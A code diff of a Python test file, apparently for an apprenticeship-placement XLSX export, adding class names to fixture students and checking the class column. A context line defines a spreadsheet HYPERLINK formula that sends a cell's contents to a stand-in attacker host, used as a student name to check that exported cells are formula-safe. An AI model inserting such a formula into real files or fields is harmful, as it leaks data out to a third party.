@@ -25,13 +25,15 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 @pytest.fixture
 def school_month():
     """The first school: three placements active in December (one apprentice named like a formula, one without
-    mentor or insurance), one only proposed, one that ended in October; the second school: an active placement."""
+    mentor, insurance or class), one only proposed, one that ended in October; the second school: an active placement."""
     pilot = PilotProjectFactory()
     cohort = CohortFactory(program=pilot.program, entry_year=2024)
     active = [
-        covered_placement(pilot=pilot, student=StudentFactory(cohort=cohort, name=FORMULA)),
-        covered_placement(pilot=pilot),
-        PlacementFactory(pilot=pilot, active=True, mentor=None),
+        covered_placement(
+            pilot=pilot, student=StudentFactory(cohort=cohort, name=FORMULA, class_name="数控2401班")
+        ),
+        covered_placement(pilot=pilot, student=StudentFactory(cohort=cohort, class_name="数控2402班")),
+        PlacementFactory(pilot=pilot, active=True, mentor=None),  # and no class recorded
     ]
     PlacementFactory(pilot=pilot)  # proposed
     covered_placement(pilot=pilot, start_date=datetime.date(2026, 3, 1), end_date=datetime.date(2026, 10, 31))
@@ -84,7 +86,11 @@ def test_the_xlsx_has_valid_ids_formula_safe_cells_and_the_missing_sheet(school_
         (bare.student.name, "实习责任保险保单号"),
         (bare.student.name, "工伤保险保单号"),
         (bare.student.name, "协议编号"),
+        (bare.student.name, "班级"),
     }
+    assert sorted(row[column["班级"]] for row in rows) == sorted(
+        ["数控2401班", "数控2402班", datareturn.MISSING]
+    )  # the school's own class, never one composed from the cohort
     bare_row = next(row for row in rows if row[column["学生姓名"]] == bare.student.name)
     assert bare_row[column["企业指导师傅"]] == datareturn.MISSING
     assert None not in bare_row
